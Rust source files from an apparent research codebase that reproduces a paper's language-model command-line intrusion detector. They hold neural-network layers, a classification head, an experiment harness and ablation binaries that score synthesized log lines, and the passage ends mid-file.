