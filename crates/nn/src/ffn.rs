//! Position-wise feed-forward network (GELU) with manual backprop.

use crate::activation::{gelu, gelu_grad};
use crate::linear::{Linear, LinearCache};
use linalg::Matrix;
use rand::Rng;

/// `FFN(x) = GELU(x·W₁ + b₁)·W₂ + b₂`, inner width `ff_dim`.
#[derive(Debug, Clone)]
pub struct FeedForward {
    lin1: Linear,
    lin2: Linear,
}

/// Forward cache for [`FeedForward::backward`].
#[derive(Debug)]
pub struct FeedForwardCache {
    c1: LinearCache,
    c2: LinearCache,
    /// Pre-activation of the inner layer.
    pre: Matrix,
}

impl FeedForward {
    /// Creates the two projections.
    pub fn new<R: Rng + ?Sized>(rng: &mut R, hidden: usize, ff_dim: usize) -> Self {
        FeedForward {
            lin1: Linear::new(rng, hidden, ff_dim),
            lin2: Linear::new(rng, ff_dim, hidden),
        }
    }

    /// Inference-only forward: no caches. Position-wise, so results
    /// are bit-identical to [`FeedForward::forward`] under any
    /// batching of the rows.
    pub fn apply(&self, x: &Matrix) -> Matrix {
        let pre = self.lin1.apply(x);
        let act = pre.map(gelu);
        self.lin2.apply(&act)
    }

    /// Forward pass over `(s, hidden)`.
    pub fn forward(&self, x: &Matrix) -> (Matrix, FeedForwardCache) {
        let (pre, c1) = self.lin1.forward(x);
        let act = pre.map(gelu);
        let (y, c2) = self.lin2.forward(&act);
        (y, FeedForwardCache { c1, c2, pre })
    }

    /// Backward pass: accumulates grads, returns `dx`.
    pub fn backward(&mut self, cache: &FeedForwardCache, dy: &Matrix) -> Matrix {
        let dact = self.lin2.backward(&cache.c2, dy);
        let dpre = Matrix::from_fn(dact.rows(), dact.cols(), |r, c| {
            dact[(r, c)] * gelu_grad(cache.pre[(r, c)])
        });
        self.lin1.backward(&cache.c1, &dpre)
    }

    /// Visits all four tensors in stable order.
    pub fn visit_params(&mut self, f: &mut impl FnMut(&mut crate::param::Param)) {
        self.lin1.visit_params(f);
        self.lin2.visit_params(f);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use linalg::rng::randn;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn loss(y: &Matrix) -> f32 {
        0.5 * y.as_slice().iter().map(|v| v * v).sum::<f32>()
    }

    #[test]
    fn forward_shape() {
        let mut rng = StdRng::seed_from_u64(1);
        let ffn = FeedForward::new(&mut rng, 8, 32);
        let x = randn(&mut rng, 5, 8, 1.0);
        let (y, _) = ffn.forward(&x);
        assert_eq!(y.shape(), (5, 8));
    }

    #[test]
    fn gradient_check_input() {
        let mut rng = StdRng::seed_from_u64(2);
        let mut ffn = FeedForward::new(&mut rng, 6, 12);
        let x = randn(&mut rng, 4, 6, 0.9);
        let (y, cache) = ffn.forward(&x);
        let dx = ffn.backward(&cache, &y);

        let eps = 1e-2;
        for idx in [(0usize, 0usize), (2, 3), (3, 5)] {
            let mut xp = x.clone();
            xp[idx] += eps;
            let (yp, _) = ffn.forward(&xp);
            let mut xm = x.clone();
            xm[idx] -= eps;
            let (ym, _) = ffn.forward(&xm);
            let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
            assert!(
                (numeric - dx[idx]).abs() < 5e-2 * (1.0 + numeric.abs()),
                "dx{idx:?}: numeric {numeric} vs analytic {}",
                dx[idx]
            );
        }
    }

    #[test]
    fn gradient_check_inner_weight() {
        let mut rng = StdRng::seed_from_u64(3);
        let mut ffn = FeedForward::new(&mut rng, 6, 12);
        let x = randn(&mut rng, 3, 6, 0.9);
        let (y, cache) = ffn.forward(&x);
        let _ = ffn.backward(&cache, &y);

        let eps = 1e-2;
        for idx in [(0usize, 1usize), (5, 10)] {
            let orig = ffn.lin1.w.value[idx];
            ffn.lin1.w.value[idx] = orig + eps;
            let (yp, _) = ffn.forward(&x);
            ffn.lin1.w.value[idx] = orig - eps;
            let (ym, _) = ffn.forward(&x);
            ffn.lin1.w.value[idx] = orig;
            let numeric = (loss(&yp) - loss(&ym)) / (2.0 * eps);
            let analytic = ffn.lin1.w.grad[idx];
            assert!(
                (numeric - analytic).abs() < 5e-2 * (1.0 + numeric.abs()),
                "dW1{idx:?}: {numeric} vs {analytic}"
            );
        }
    }

    #[test]
    fn visit_params_counts_four_tensors() {
        let mut rng = StdRng::seed_from_u64(4);
        let mut ffn = FeedForward::new(&mut rng, 4, 8);
        let mut n = 0;
        ffn.visit_params(&mut |_| n += 1);
        assert_eq!(n, 4);
    }
}
