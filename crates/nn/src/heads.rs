//! The probing classification head (paper Section IV-B).
//!
//! "a two-layer perceptron initialized by Kaiming's method … tuned with a
//! learning rate of 5e-5 for 5 epochs using AdamW, with the language
//! model being frozen." Because the backbone is frozen, the head can be
//! trained directly on pre-computed `[CLS]` embeddings, which is exactly
//! how this type is used by the `cmdline-ids` crate.

use crate::activation::{relu, relu_grad};
use crate::linear::{Linear, LinearCache};
use crate::loss::cross_entropy;
use crate::optim::{AdamW, Optimizer};
use crate::param::Param;
use linalg::Matrix;
use rand::Rng;

/// Two-layer MLP `hidden → hidden → 2` with ReLU, Kaiming-initialized.
#[derive(Debug, Clone)]
pub struct ClassificationHead {
    lin1: Linear,
    lin2: Linear,
}

/// Forward cache for [`ClassificationHead::backward`].
#[derive(Debug)]
pub struct HeadCache {
    c1: LinearCache,
    c2: LinearCache,
    pre: Matrix,
}

impl ClassificationHead {
    /// Creates a head over `input_dim`-wide embeddings with
    /// `inner_dim` hidden units and 2 output classes.
    pub fn new<R: Rng + ?Sized>(rng: &mut R, input_dim: usize, inner_dim: usize) -> Self {
        ClassificationHead {
            lin1: Linear::new_kaiming(rng, input_dim, inner_dim),
            lin2: Linear::new_kaiming(rng, inner_dim, 2),
        }
    }

    /// Forward pass: `(n, input_dim)` embeddings → `(n, 2)` logits.
    pub fn forward(&self, x: &Matrix) -> (Matrix, HeadCache) {
        let (pre, c1) = self.lin1.forward(x);
        let act = pre.map(relu);
        let (logits, c2) = self.lin2.forward(&act);
        (logits, HeadCache { c1, c2, pre })
    }

    /// Backward pass from `dlogits`; accumulates grads, returns `dx`.
    pub fn backward(&mut self, cache: &HeadCache, dlogits: &Matrix) -> Matrix {
        let dact = self.lin2.backward(&cache.c2, dlogits);
        let dpre = Matrix::from_fn(dact.rows(), dact.cols(), |r, c| {
            dact[(r, c)] * relu_grad(cache.pre[(r, c)])
        });
        self.lin1.backward(&cache.c1, &dpre)
    }

    /// Probability of the "intrusion" class (index 1) per row.
    pub fn predict_proba(&self, x: &Matrix) -> Vec<f32> {
        let (logits, _) = self.forward(x);
        (0..logits.rows())
            .map(|r| {
                let a = logits[(r, 0)];
                let b = logits[(r, 1)];
                let m = a.max(b);
                let ea = (a - m).exp();
                let eb = (b - m).exp();
                eb / (ea + eb)
            })
            .collect()
    }

    /// Visits all four tensors in stable order.
    pub fn visit_params(&mut self, f: &mut impl FnMut(&mut Param)) {
        self.lin1.visit_params(f);
        self.lin2.visit_params(f);
    }

    /// Zeroes gradients.
    pub fn zero_grad(&mut self) {
        self.visit_params(&mut |p| p.zero_grad());
    }

    /// Trains the head on `(embeddings, labels)` for `epochs` passes of
    /// minibatch AdamW — the paper's classification-based tuning loop
    /// with the backbone frozen. Returns the mean loss per epoch.
    ///
    /// # Panics
    ///
    /// Panics if inputs are empty or lengths disagree.
    pub fn fit<R: Rng + ?Sized>(
        &mut self,
        rng: &mut R,
        embeddings: &Matrix,
        labels: &[u32],
        epochs: usize,
        batch_size: usize,
        optimizer: &mut AdamW,
    ) -> Vec<f32> {
        assert!(embeddings.rows() > 0, "no training data");
        assert_eq!(embeddings.rows(), labels.len(), "one label per embedding");
        let n = embeddings.rows();
        let bs = batch_size.max(1).min(n);
        let mut order: Vec<usize> = (0..n).collect();
        let mut losses = Vec::with_capacity(epochs);
        for _ in 0..epochs {
            // Fisher–Yates shuffle with the caller's RNG.
            for i in (1..n).rev() {
                let j = rng.gen_range(0..=i);
                order.swap(i, j);
            }
            let mut epoch_loss = 0.0;
            let mut batches = 0;
            for chunk in order.chunks(bs) {
                let xb = Matrix::from_fn(chunk.len(), embeddings.cols(), |r, c| {
                    embeddings[(chunk[r], c)]
                });
                let yb: Vec<u32> = chunk.iter().map(|&i| labels[i]).collect();
                let (logits, cache) = self.forward(&xb);
                let (loss, dlogits) = cross_entropy(&logits, &yb);
                self.zero_grad();
                let _ = self.backward(&cache, &dlogits);
                // Same stable order as visit_params.
                let mut params: Vec<&mut Param> = vec![
                    &mut self.lin1.w,
                    &mut self.lin1.b,
                    &mut self.lin2.w,
                    &mut self.lin2.b,
                ];
                optimizer.step(&mut params);
                epoch_loss += loss;
                batches += 1;
            }
            losses.push(epoch_loss / batches.max(1) as f32);
        }
        losses
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use linalg::rng::randn;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn separable_data(rng: &mut StdRng, n: usize, d: usize) -> (Matrix, Vec<u32>) {
        // Class 0 around -1, class 1 around +1 along every axis.
        let mut x = randn(rng, n, d, 0.4);
        let mut y = Vec::with_capacity(n);
        for r in 0..n {
            let label = (r % 2) as u32;
            let shift = if label == 1 { 1.0 } else { -1.0 };
            for c in 0..d {
                x[(r, c)] += shift;
            }
            y.push(label);
        }
        (x, y)
    }

    #[test]
    fn head_learns_separable_data() {
        let mut rng = StdRng::seed_from_u64(1);
        let (x, y) = separable_data(&mut rng, 200, 8);
        let mut head = ClassificationHead::new(&mut rng, 8, 16);
        let mut opt = AdamW::new(5e-3, 0.0);
        let losses = head.fit(&mut rng, &x, &y, 20, 32, &mut opt);
        assert!(
            losses.last().unwrap() < &0.1,
            "final loss {:?}",
            losses.last()
        );
        let (logits, _) = head.forward(&x);
        let acc = crate::loss::binary_accuracy(&logits, &y);
        assert!(acc > 0.95, "accuracy {acc}");
    }

    #[test]
    fn loss_decreases_over_epochs() {
        let mut rng = StdRng::seed_from_u64(2);
        let (x, y) = separable_data(&mut rng, 100, 6);
        let mut head = ClassificationHead::new(&mut rng, 6, 12);
        let mut opt = AdamW::new(1e-3, 0.0);
        let losses = head.fit(&mut rng, &x, &y, 10, 16, &mut opt);
        assert!(losses.last().unwrap() < losses.first().unwrap());
    }

    #[test]
    fn predict_proba_in_unit_interval_and_consistent() {
        let mut rng = StdRng::seed_from_u64(3);
        let head = ClassificationHead::new(&mut rng, 4, 8);
        let x = randn(&mut rng, 10, 4, 1.0);
        let probs = head.predict_proba(&x);
        let (logits, _) = head.forward(&x);
        for (r, p) in probs.iter().enumerate() {
            assert!((0.0..=1.0).contains(p));
            let argmax_is_one = logits[(r, 1)] > logits[(r, 0)];
            assert_eq!(*p > 0.5, argmax_is_one);
        }
    }

    #[test]
    fn gradient_check_head() {
        let mut rng = StdRng::seed_from_u64(4);
        let mut head = ClassificationHead::new(&mut rng, 5, 7);
        let x = randn(&mut rng, 6, 5, 1.0);
        let y = vec![0u32, 1, 0, 1, 1, 0];
        let (logits, cache) = head.forward(&x);
        let (_, dlogits) = cross_entropy(&logits, &y);
        head.zero_grad();
        let _ = head.backward(&cache, &dlogits);

        let eps = 1e-2;
        let idx = (2usize, 3usize);
        let orig = head.lin1.w.value[idx];
        head.lin1.w.value[idx] = orig + eps;
        let (lp, _) = head.forward(&x);
        head.lin1.w.value[idx] = orig - eps;
        let (lm, _) = head.forward(&x);
        head.lin1.w.value[idx] = orig;
        let numeric = (cross_entropy(&lp, &y).0 - cross_entropy(&lm, &y).0) / (2.0 * eps);
        let analytic = head.lin1.w.grad[idx];
        assert!(
            (numeric - analytic).abs() < 1e-2 * (1.0 + numeric.abs()),
            "numeric {numeric} vs analytic {analytic}"
        );
    }

    #[test]
    #[should_panic(expected = "no training data")]
    fn empty_fit_panics() {
        let mut rng = StdRng::seed_from_u64(5);
        let mut head = ClassificationHead::new(&mut rng, 4, 8);
        let mut opt = AdamW::new(1e-3, 0.0);
        let _ = head.fit(&mut rng, &Matrix::zeros(0, 4), &[], 1, 8, &mut opt);
    }
}
