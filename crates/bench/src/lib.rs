//! Shared experiment harness for the table/figure reproduction binaries.
//!
//! Every binary follows the paper's protocol:
//!
//! 1. synthesize a train/test trace (`corpus`),
//! 2. pre-train the command-line language model (`cmdline-ids`),
//! 3. label the *training* split by querying the simulated commercial
//!    IDS in a black-box manner (`ids-rules`) — the noisy supervision,
//! 4. fit the method(s) under test,
//! 5. de-duplicate the test split and score it,
//! 6. evaluate PO@v / PO / PO&I against ground truth, with *in-box*
//!    defined by the commercial IDS's alerts on the test lines.
//!
//! See `DESIGN.md` §4 for the experiment ↔ binary index and
//! `EXPERIMENTS.md` for recorded paper-vs-measured results.

pub mod methods;
pub mod perf;

use cmdline_ids::engine::{IndexConfig, Quantization};
use cmdline_ids::metrics::ScoredSample;
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::{dedup_records, AttackFamily, Dataset, LogRecord};
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::collections::HashMap;
use std::sync::RwLock;

/// A fully set-up experiment: data, pre-trained pipeline, supervision.
pub struct Experiment {
    /// The pipeline configuration used.
    pub config: PipelineConfig,
    /// Synthesized train/test trace.
    pub dataset: Dataset,
    /// Pre-trained preprocessing + tokenizer + encoder.
    pub pipeline: IdsPipeline,
    /// The simulated commercial IDS (supervision source).
    pub ids: RuleIds,
    /// The setup seed (method seeds derive from it).
    seed: u64,
    /// Lazily-built memo of `ids.is_alert` verdicts: rule evaluation
    /// walks every pattern per call and the harness asks about the
    /// same lines from `train_labels`, `scored`, and the multi-line
    /// packing, so verdicts are computed once per distinct line.
    alert_memo: RwLock<HashMap<String, bool>>,
}

impl Experiment {
    /// Generates data and pre-trains the model, everything seeded.
    pub fn setup(seed: u64, config: PipelineConfig) -> Self {
        let mut rng = StdRng::seed_from_u64(seed);
        let dataset = config.generate_dataset(&mut rng);
        let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
        Experiment {
            config,
            dataset,
            pipeline,
            ids: RuleIds::with_default_rules(),
            seed,
            alert_memo: RwLock::new(HashMap::new()),
        }
    }

    /// Builds an experiment from already-prepared parts (ablations
    /// re-pretrain the pipeline over a shared dataset).
    pub fn from_parts(
        config: PipelineConfig,
        dataset: Dataset,
        pipeline: IdsPipeline,
        ids: RuleIds,
        seed: u64,
    ) -> Self {
        Experiment {
            config,
            dataset,
            pipeline,
            ids,
            seed,
            alert_memo: RwLock::new(HashMap::new()),
        }
    }

    /// The seed this experiment was set up with.
    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// A seeded RNG for method fitting, decorrelated from setup.
    pub fn method_rng(&self, seed: u64) -> StdRng {
        StdRng::seed_from_u64(seed ^ 0x9E37_79B9_7F4A_7C15)
    }

    /// A per-method seed derived from the experiment seed and the
    /// method name, so engine runs are reproducible and methods'
    /// randomness is decorrelated from each other.
    pub fn method_seed(&self, name: &str) -> u64 {
        let mut h = 0xcbf2_9ce4_8422_2325u64 ^ self.seed;
        for b in name.bytes() {
            h ^= b as u64;
            h = h.wrapping_mul(0x0000_0100_0000_01B3);
        }
        h
    }

    /// The commercial IDS's verdict on `line`, memoized.
    pub fn is_alert(&self, line: &str) -> bool {
        if let Some(&v) = self.alert_memo.read().unwrap().get(line) {
            return v;
        }
        let v = self.ids.is_alert(line);
        self.alert_memo.write().unwrap().insert(line.to_string(), v);
        v
    }

    /// Training lines as string slices.
    pub fn train_lines(&self) -> Vec<&str> {
        self.dataset.train.iter().map(|r| r.line.as_str()).collect()
    }

    /// Black-box supervision labels for the training lines.
    pub fn train_labels(&self) -> Vec<bool> {
        self.dataset
            .train
            .iter()
            .map(|r| self.is_alert(&r.line))
            .collect()
    }

    /// The de-duplicated test split (the paper de-duplicates before
    /// computing metrics).
    pub fn deduped_test(&self) -> Vec<LogRecord> {
        dedup_records(&self.dataset.test)
    }

    /// Packs method scores into [`ScoredSample`]s: ground truth from the
    /// oracle, in-box status from the commercial IDS's own alerts.
    pub fn scored(&self, records: &[LogRecord], scores: &[f32]) -> Vec<ScoredSample> {
        assert_eq!(records.len(), scores.len(), "one score per record");
        records
            .iter()
            .zip(scores)
            .map(|(r, &score)| ScoredSample {
                score,
                malicious: r.truth.is_malicious(),
                in_box: self.is_alert(&r.line),
            })
            .collect()
    }

    /// Family tags aligned with `records` (None for benign lines).
    pub fn family_tags(&self, records: &[LogRecord]) -> Vec<Option<AttackFamily>> {
        records
            .iter()
            .map(|r| match r.truth {
                corpus::GroundTruth::Malicious { family, .. } => Some(family),
                _ => None,
            })
            .collect()
    }
}

/// Command-line arguments shared by every experiment binary.
#[derive(Debug, Clone)]
pub struct Args {
    /// Base RNG seed.
    pub seed: u64,
    /// Training lines.
    pub train_size: usize,
    /// Test lines.
    pub test_size: usize,
    /// Independent runs to aggregate (Table I reports five).
    pub runs: usize,
    /// Vector-index backend for the neighbour-based methods
    /// (`--index exact|hnsw`, optionally partitioned via `--shards N`
    /// and/or stored quantized via `--quant f32|f16|i8`; unsharded
    /// f32 exact is the paper-faithful default). After parsing this is
    /// the *combined* config — `--shards 4 --index hnsw --quant i8`
    /// yields a 4-way sharded HNSW partition over int8 candidates.
    pub index: IndexConfig,
    /// After the offline tables, replay the test stream through the
    /// long-lived scoring service and report streamed-vs-batch parity
    /// plus throughput (`--serve`; binaries that support it say so).
    pub serve: bool,
}

impl Default for Args {
    fn default() -> Self {
        Args {
            seed: 42,
            train_size: 8_000,
            test_size: 3_000,
            runs: 5,
            index: IndexConfig::Exact,
            serve: false,
        }
    }
}

impl Args {
    /// Parses `--seed N --train N --test N --runs N --index exact|hnsw
    /// --shards N --quant f32|f16|i8` from `std::env`. Unknown flags
    /// abort with a usage message.
    pub fn parse() -> Self {
        Self::parse_impl(false)
    }

    /// [`Args::parse`] plus the `--serve` flag — only for binaries
    /// that actually implement the streaming replay (table1); others
    /// reject the flag with a usage error instead of silently
    /// swallowing it.
    pub fn parse_with_serve() -> Self {
        Self::parse_impl(true)
    }

    fn parse_impl(allow_serve: bool) -> Self {
        let mut args = Args::default();
        let mut shards = 1usize;
        let mut quant = Quantization::F32;
        let argv: Vec<String> = std::env::args().skip(1).collect();
        let mut i = 0;
        let usage = move || {
            let serve = if allow_serve { " [--serve]" } else { "" };
            eprintln!(
                "usage: {} [--seed N] [--train N] [--test N] [--runs N] \
                 [--index exact|hnsw] [--shards N] [--quant f32|f16|i8]{serve}",
                std::env::args().next().unwrap_or_default()
            );
            std::process::exit(2)
        };
        while i < argv.len() {
            let key = argv[i].as_str();
            if key == "--serve" {
                if !allow_serve {
                    usage();
                }
                args.serve = true;
                i += 1;
                continue;
            }
            if key == "--index" {
                match argv.get(i + 1).map(|v| v.parse::<IndexConfig>()) {
                    Some(Ok(config)) => args.index = config,
                    _ => usage(),
                }
                i += 2;
                continue;
            }
            if key == "--quant" {
                match argv.get(i + 1).map(|v| v.parse::<Quantization>()) {
                    Some(Ok(q)) => quant = q,
                    _ => usage(),
                }
                i += 2;
                continue;
            }
            let value = argv.get(i + 1).and_then(|v| v.parse::<u64>().ok());
            match (key, value) {
                ("--seed", Some(v)) => args.seed = v,
                ("--train", Some(v)) => args.train_size = v as usize,
                ("--test", Some(v)) => args.test_size = v as usize,
                ("--runs", Some(v)) => args.runs = (v as usize).max(1),
                ("--shards", Some(v)) => shards = (v as usize).max(1),
                _ => usage(),
            }
            i += 2;
        }
        // Fold the partition count and storage format into the backend
        // choice, order of flags notwithstanding: every consumer of
        // `args.index` gets the combined config for free.
        args.index = args.index.with_quant(quant).with_shards(shards);
        args
    }

    /// Builds the experiment-scale pipeline configuration.
    pub fn config(&self) -> PipelineConfig {
        let mut config = PipelineConfig::experiment();
        config.train_size = self.train_size;
        config.test_size = self.test_size;
        config
    }
}

/// Prints a markdown-ish table row.
pub fn print_row(cells: &[String]) {
    println!("| {} |", cells.join(" | "));
}

/// Formats an optional metric as `0.xxx` or `-`.
pub fn fmt_opt(x: Option<f64>) -> String {
    match x {
        Some(v) => format!("{v:.3}"),
        None => "-".to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn setup_produces_consistent_experiment() {
        let mut config = PipelineConfig::fast();
        config.train_size = 600;
        config.test_size = 250;
        let exp = Experiment::setup(7, config);
        assert_eq!(exp.dataset.train.len(), 600);
        let labels = exp.train_labels();
        assert_eq!(labels.len(), 600);
        let dedup = exp.deduped_test();
        assert!(dedup.len() <= 250);
        let scores: Vec<f32> = vec![0.0; dedup.len()];
        let scored = exp.scored(&dedup, &scores);
        assert_eq!(scored.len(), dedup.len());
        // In-box samples must be ground-truth-consistent most of the time
        // (rule FPs are rare).
        let fp = scored.iter().filter(|s| s.in_box && !s.malicious).count();
        assert!(fp <= 2, "unexpected rule false positives: {fp}");
    }

    #[test]
    fn family_tags_align() {
        let mut config = PipelineConfig::fast();
        config.train_size = 400;
        config.test_size = 400;
        config.attack_prob = 0.3;
        let exp = Experiment::setup(8, config);
        let dedup = exp.deduped_test();
        let tags = exp.family_tags(&dedup);
        assert_eq!(tags.len(), dedup.len());
        assert!(tags.iter().any(|t| t.is_some()));
        for (r, t) in dedup.iter().zip(&tags) {
            assert_eq!(r.truth.is_malicious(), t.is_some());
        }
    }

    #[test]
    fn fmt_helpers() {
        assert_eq!(fmt_opt(Some(0.1234)), "0.123");
        assert_eq!(fmt_opt(None), "-");
    }

    #[test]
    fn alert_memo_agrees_with_rules_engine() {
        let mut config = PipelineConfig::fast();
        config.train_size = 300;
        config.test_size = 100;
        let exp = Experiment::setup(11, config);
        for r in exp.dataset.train.iter().take(50) {
            // Memoized answer (twice — second read is the cached path)
            // must match the engine's direct verdict.
            assert_eq!(exp.is_alert(&r.line), exp.ids.is_alert(&r.line));
            assert_eq!(exp.is_alert(&r.line), exp.ids.is_alert(&r.line));
        }
    }

    #[test]
    fn method_seeds_are_stable_and_distinct() {
        let mut config = PipelineConfig::fast();
        config.train_size = 300;
        config.test_size = 100;
        let exp = Experiment::setup(11, config);
        assert_eq!(
            exp.method_seed("classification"),
            exp.method_seed("classification")
        );
        assert_ne!(
            exp.method_seed("classification"),
            exp.method_seed("retrieval")
        );
    }
}
