//! Ablation (extension beyond the paper): the multi-line context width.
//!
//! Section IV-C fixes the context at three temporally contiguous lines.
//! This binary sweeps the width and reports top-v out-of-box precision,
//! showing where extra context stops paying.
//!
//! Run: `cargo run --release -p bench --bin ablation_context -- --train 5000 --test 2000`

use bench::methods::MULTI_LINE_MAX_GAP;
use bench::{print_row, Args, Experiment};
use cmdline_ids::metrics::{precision_at_top, ScoredSample};
use cmdline_ids::tuning::{build_windows, MultiLineClassifier, TuneConfig};

fn run_with_width(exp: &Experiment, width: usize, seed: u64) -> Vec<ScoredSample> {
    let mut rng = exp.method_rng(seed);
    let labels = exp.train_labels();
    let classifier = MultiLineClassifier::fit(
        &exp.pipeline,
        &exp.dataset.train,
        &labels,
        width,
        MULTI_LINE_MAX_GAP,
        &TuneConfig::scaled(),
        &mut rng,
    );
    let scores = classifier.score_records(&exp.pipeline, &exp.dataset.test);
    let windows = build_windows(&exp.dataset.test, width, MULTI_LINE_MAX_GAP);
    let mut seen = std::collections::HashSet::new();
    let mut out = Vec::new();
    for (i, (r, w)) in exp.dataset.test.iter().zip(&windows).enumerate() {
        if seen.insert(w.joined()) {
            out.push(ScoredSample {
                score: scores[i],
                malicious: r.truth.is_malicious(),
                in_box: exp.ids.is_alert(&r.line),
            });
        }
    }
    out
}

fn main() {
    let args = Args::parse();
    println!(
        "context-width ablation: train={} test={} seed={}",
        args.train_size, args.test_size, args.seed
    );
    let exp = Experiment::setup(args.seed, args.config());

    println!();
    print_row(&["context width".into(), "windows".into(), "PO@small".into()]);
    print_row(&["---".into(), "---".into(), "---".into()]);
    for width in [1usize, 2, 3, 5] {
        let samples = run_with_width(&exp, width, args.seed + width as u64);
        let small = (samples
            .iter()
            .filter(|s| s.malicious && !s.in_box)
            .count()
            .max(10)
            / 10)
            .max(1);
        let p = precision_at_top(&samples, small).unwrap_or(0.0);
        print_row(&[
            format!("{width}{}", if width == 3 { " (paper)" } else { "" }),
            samples.len().to_string(),
            format!("{p:.3}"),
        ]);
    }
    println!();
    println!("width 1 degenerates to single-line classification; the paper");
    println!("uses 3 — context beyond the attack chain length adds noise.");
}
