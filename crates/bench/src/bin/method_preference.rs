//! Reproduces the **Section V-C "preference of different methods"**
//! analysis: which attack families each method detects first.
//!
//! The paper observes: single-line classification is strongest on
//! bind/reverse shells; multi-line classification catches behaviour
//! spread across a sequence (the wget→python dropper); reconstruction
//! tuning prefers base64-decode-and-execute (hard to reconstruct); and
//! the methods complement each other.
//!
//! Run: `cargo run --release --bin method_preference -p bench`

use bench::methods::{
    run_classification, run_multiline, run_reconstruction, run_retrieval,
};
use bench::{Args, Experiment};
use cmdline_ids::eval::{evaluate_scores, family_breakdown};
use cmdline_ids::metrics::ScoredSample;

fn breakdown(
    name: &str,
    samples: &[ScoredSample],
    families: &[Option<corpus::AttackFamily>],
) {
    let eval = evaluate_scores(samples, 0.90, &[]);
    let Some(threshold) = eval.threshold else {
        println!("{name}: no in-box intrusions to calibrate on");
        return;
    };
    let bd = family_breakdown(samples, families, threshold);
    println!();
    println!("{name} (threshold {threshold:.4}):");
    for (family, detected, total) in &bd.rows {
        println!(
            "  {family:<18} {detected:>3}/{total:<3} ({:.0}%)",
            100.0 * *detected as f64 / *total as f64
        );
    }
}

fn main() {
    let args = Args::parse();
    println!(
        "Section V-C reproduction: train={} test={} seed={}",
        args.train_size, args.test_size, args.seed
    );
    let exp = Experiment::setup(args.seed, args.config());
    let mut rng = exp.method_rng(args.seed);

    let dedup = exp.deduped_test();
    let families = exp.family_tags(&dedup);

    let cls = run_classification(&exp, &mut rng);
    breakdown("classification (single line)", &cls, &families);

    let recon = run_reconstruction(&exp, &mut rng);
    breakdown("reconstruction", &recon, &families);

    let retr = run_retrieval(&exp);
    breakdown("retrieval", &retr, &families);

    // Multi-line uses its own dedup; compute families over its windows.
    let multi = run_multiline(&exp, &mut rng);
    {
        // For the multi-line set the sample order follows the full test
        // stream dedup'd by window; recompute tags the same way.
        let windows = cmdline_ids::tuning::build_windows(
            &exp.dataset.test,
            bench::methods::MULTI_LINE_WIDTH,
            bench::methods::MULTI_LINE_MAX_GAP,
        );
        let mut seen = std::collections::HashSet::new();
        let mut fam = Vec::new();
        for (r, w) in exp.dataset.test.iter().zip(&windows) {
            if seen.insert(w.joined()) {
                fam.push(match r.truth {
                    corpus::GroundTruth::Malicious { family, .. } => Some(family),
                    _ => None,
                });
            }
        }
        breakdown("classification (multi-line)", &multi, &fam);
    }

    // The ensemble observation: families missed by one method but caught
    // by another.
    let eval_cls = evaluate_scores(&cls, 0.90, &[]);
    let eval_recon = evaluate_scores(&recon, 0.90, &[]);
    if let (Some(tc), Some(tr)) = (eval_cls.threshold, eval_recon.threshold) {
        let caught_by_cls: usize = cls
            .iter()
            .filter(|s| s.malicious && s.score >= tc)
            .count();
        let caught_either: usize = cls
            .iter()
            .zip(&recon)
            .filter(|(a, b)| a.malicious && (a.score >= tc || b.score >= tr))
            .count();
        println!();
        println!(
            "ensemble effect: classification alone catches {caught_by_cls}, classification ∪ reconstruction catches {caught_either}"
        );
        assert!(caught_either >= caught_by_cls);
    }
    println!();
    println!("shape check: per-family sensitivity differs across methods (see tables above)");
}
