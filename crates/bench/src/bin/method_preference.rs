//! Reproduces the **Section V-C "preference of different methods"**
//! analysis: which attack families each method detects first.
//!
//! The paper observes: single-line classification is strongest on
//! bind/reverse shells; multi-line classification catches behaviour
//! spread across a sequence (the wget→python dropper); reconstruction
//! tuning prefers base64-decode-and-execute (hard to reconstruct); and
//! the methods complement each other — which the closing rank-fusion
//! ensemble makes concrete.
//!
//! Run: `cargo run --release --bin method_preference -p bench`

use bench::methods::MethodSuite;
use bench::{Args, Experiment};
use cmdline_ids::eval::{evaluate_scores, family_breakdown};
use cmdline_ids::metrics::ScoredSample;

fn breakdown(name: &str, samples: &[ScoredSample], families: &[Option<corpus::AttackFamily>]) {
    let eval = evaluate_scores(samples, 0.90, &[]);
    let Some(threshold) = eval.threshold else {
        println!("{name}: no in-box intrusions to calibrate on");
        return;
    };
    let bd = family_breakdown(samples, families, threshold);
    println!();
    println!("{name} (threshold {threshold:.4}):");
    for (family, detected, total) in &bd.rows {
        println!(
            "  {family:<18} {detected:>3}/{total:<3} ({:.0}%)",
            100.0 * *detected as f64 / *total as f64
        );
    }
}

fn main() {
    let args = Args::parse();
    println!(
        "Section V-C reproduction: train={} test={} seed={}",
        args.train_size, args.test_size, args.seed
    );
    let exp = Experiment::setup(args.seed, args.config());

    let suite = MethodSuite::new(&exp)
        .with_index(args.index)
        .with_classification()
        .with_reconstruction()
        .with_retrieval(1)
        .with_multiline()
        .run()
        .expect("suite run");

    let families = exp.family_tags(suite.deduped_test());
    let cls = suite.samples("classification").expect("registered");
    breakdown("classification (single line)", &cls, &families);

    let recon = suite.samples("reconstruction").expect("registered");
    breakdown("reconstruction", &recon, &families);

    let retr = suite.samples("retrieval").expect("registered");
    breakdown("retrieval", &retr, &families);

    // Multi-line uses window-level dedup; tag its own record set.
    let multi = suite.samples("multiline").expect("registered");
    let multi_families: Vec<Option<corpus::AttackFamily>> = suite
        .multiline_records()
        .iter()
        .map(|r| match r.truth {
            corpus::GroundTruth::Malicious { family, .. } => Some(family),
            _ => None,
        })
        .collect();
    breakdown("classification (multi-line)", &multi, &multi_families);

    // The ensemble observation: families missed by one method but caught
    // by another.
    let eval_cls = evaluate_scores(&cls, 0.90, &[]);
    let eval_recon = evaluate_scores(&recon, 0.90, &[]);
    if let (Some(tc), Some(tr)) = (eval_cls.threshold, eval_recon.threshold) {
        let caught_by_cls: usize = cls.iter().filter(|s| s.malicious && s.score >= tc).count();
        let caught_either: usize = cls
            .iter()
            .zip(&recon)
